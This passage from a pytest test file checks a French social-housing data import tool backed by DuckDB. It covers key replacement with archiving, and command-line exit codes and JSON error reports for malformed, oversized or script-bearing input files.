                            f"import_id = {rapport.import_id}") == lignes
    assert base.execute("SELECT count(*) FROM mises_a_disposition").fetchone()[0] == total
    # The rows replaced wait in the archive, tagged with the import that replaced them.
    assert _lignes_vivantes(base, "archive_mises_a_disposition",
                            f"remplace_par = {rapport.import_id}") == [
        (*ligne, rapport.import_id) for ligne in lignes]


# A row whose key is already in the base, in the same scope: the scope is replaced, the key
# stays unique. (kind, file content, SQL selecting the key, the live rows expected after)
MEME_CLE = {
    "mises_a_disposition": (
        ENTETE_MAD + "\nOLS01;OLS01-2025-000002;02/01/2025;13001;Flux réservataire;ETAT-13;"
        "5341091114;Non;T4;PLUS;1962;Refus CALEOL;;Oui;Oui\n",
        "bailleur_code = 'OLS01' AND reference = 'OLS01-2025-000002'",
        "SELECT issue FROM mises_a_disposition WHERE {ou}", [("REFUS_CALEOL",)]),
    "conventions": (
        "Code bailleur;Code réservataire;Type de réservataire;Département;Année;Statut;"
        "Date de signature;Taux (%)\nOLS01;ALS;Action Logement;04;2025;Signée;22/07/2024;23\n",
        "bailleur_code = 'OLS01' AND reservataire_code = 'ALS' AND departement = '04' "
        "AND annee = 2025",
        "SELECT taux_flux FROM conventions WHERE {ou}", [(23.0,)]),
    "parc": (
        "Code bailleur;Code INSEE;Année;Parc total;Libérations\nOLS01;04041;2025;10;2\n",
        "bailleur_code = 'OLS01' AND code_insee = '04041' AND annee = 2025",
        "SELECT parc_total, liberations FROM parc WHERE {ou}", [(10, 2)]),
    "documents_epci": (
        "SIREN EPCI;Document;Statut;Date\n200000628;CIL;Adopté;12/03/2025\n",
        "epci_siren = '200000628' AND document = 'CIL'",
        "SELECT statut, date_document FROM documents_epci WHERE {ou}",
        [("ADOPTE", date(2025, 3, 12))]),
}


@pytest.mark.parametrize("type_donnees", list(MEME_CLE))
def test_cle_deja_en_base_dans_le_meme_perimetre_remplacee_jamais_doublee(base, tmp_path,
                                                                          type_donnees):
    contenu, ou, requete, attendu = MEME_CLE[type_donnees]
    table = type_donnees
    assert base.execute(f"SELECT count(*) FROM {table} WHERE {ou}").fetchone() == (1,)
    chemin = tmp_path / f"{type_donnees}.csv"
    chemin.write_text(contenu, encoding="utf-8")
    rapport = importer(base, type_donnees, chemin)
    assert rapport.statut == "importe", rapport.erreurs
    assert base.execute(requete.format(ou=ou)).fetchall() == attendu
    assert base.execute(f"SELECT count(*) FROM archive_{table} WHERE {ou} AND remplace_par = ?",
                        [rapport.import_id]).fetchone() == (1,)


# ========================================================================== the command line

def _cli(*args) -> subprocess.CompletedProcess:
    env = dict(os.environ)
    env.pop("FLUX_DB", None)
    env.pop("FLUX_ROLES", None)
    return subprocess.run([sys.executable, "-m", "dashboard", *map(str, args)], cwd=ROOT,
                          env=env, capture_output=True, text=True, encoding="utf-8", timeout=300)


def test_ligne_de_commande_code_de_sortie_et_json(tmp_path, modele_exemple):
    chemin = tmp_path / "cli.duckdb"
    shutil.copyfile(modele_exemple, chemin)

    def etat():
        con = duckdb.connect(str(chemin), read_only=True)
        try:
            return empreintes(con)
        finally:
            con.close()

    avant = etat()
    for nom in ("vide.csv", "mad_encodages_melanges.csv", "mad_date_impossible.csv",
                "classeur_tronque.xlsx"):
        cas = _cas(nom)
        sortie = _cli("import", cas.type_donnees, CORPUS_DIR / nom, "--db", chemin, "--json")
        assert sortie.returncode == 1, sortie.stderr
        rapport = json.loads(sortie.stdout)
        assert rapport["statut"] == "rejete" and rapport["import_id"] is None
        assert [(e["ligne"], e["colonne"], e["valeur"]) for e in rapport["erreurs"]] == cas.erreurs
        assert rapport["erreurs"][0]["message"].startswith(cas.messages[0])
    gros = tmp_path / "trop_gros.csv"
    with open(gros, "wb") as f:
        f.truncate(TAILLE_MAX_OCTETS + 1)
    sortie = _cli("import", "mises_a_disposition", gros, "--db", chemin)
    assert sortie.returncode == 1
    assert "Fichier trop volumineux : la limite est de 200 Mo." in sortie.stdout
    assert etat() == avant
    # Hostile text is data: imported (exit 0).
    sortie = _cli("import", "conventions", CORPUS_DIR / "conventions_html_script.csv",
                  "--db", chemin, "--json")
    assert sortie.returncode == 0, sortie.stdout + sortie.stderr
    assert json.loads(sortie.stdout)["lignes_importees"] == 1
